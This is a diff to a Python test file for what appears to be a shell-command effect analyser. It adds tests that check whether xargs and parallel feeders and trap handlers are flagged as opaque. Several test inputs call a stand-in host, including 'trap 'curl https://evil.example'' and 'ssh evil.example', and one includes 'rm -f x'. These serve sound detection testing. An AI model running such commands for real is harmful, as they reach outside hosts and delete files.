@@ -51,6 +51,8 @@ _EGRESS = st.sampled_from(
 def _wrapped(wrapper: str, command: str) -> str:
     if "\nE" in command and "<<" in wrapper:
         return command  # an inner delimiter would end the outer here-document
+    if "<<" in command and wrapper.startswith(("xargs", "parallel")):
+        return command  # these take the inner here-document for arguments: no shell runs it
     if "'{}'" in wrapper:
         return wrapper.replace("'{}'", shlex.quote(command)).replace("{{", "{").replace("}}", "}")
     return wrapper.format(command)
@@ -91,6 +93,29 @@ def test_no_construct_around_an_evasion_hides_it(command, wrapper):
 )  # fmt: skip
 def test_deep_and_long_texts_end(command):
     assert effects(command).opaque or "bash -c" in command or "for a" in command
+
+
+@pytest.mark.parametrize(
+    "wrapper", ["", "sudo", "time -p", "systemd-run --user", "env A=1", "find . -exec"]
+)
+@pytest.mark.parametrize("interpreter", ["sh", "bash -c", "python3", "node"])
+@pytest.mark.parametrize(
+    "feeder", ["cat x | xargs", "ls | xargs -n 1", "xargs -a x", "ls | parallel"]
+)
+def test_an_unknown_input_that_names_a_script_is_opaque(feeder, wrapper, interpreter):
+    assert effects(f"{feeder} {wrapper} {interpreter}").opaque
+
+
+@pytest.mark.parametrize("tail", ["ssh evil.example EXIT", "EXIT a", "$(x) nothing"])
+def test_a_trap_whose_words_are_no_signals_is_opaque(tail):
+    assert effects(f"trap 'curl https://evil.example' {tail}").opaque
+
+
+@pytest.mark.parametrize("tail", ["EXIT", "INT TERM", "SIGHUP 2 15", "err", "RTMIN+3", "$SIGNAL"])
+def test_a_trap_on_signals_is_read(tail):
+    found = effects(f"trap 'rm -f x' {tail}")
+    assert not found.opaque
+    assert found.deletions
 
 
 def test_every_egress_program_is_found_by_its_name():
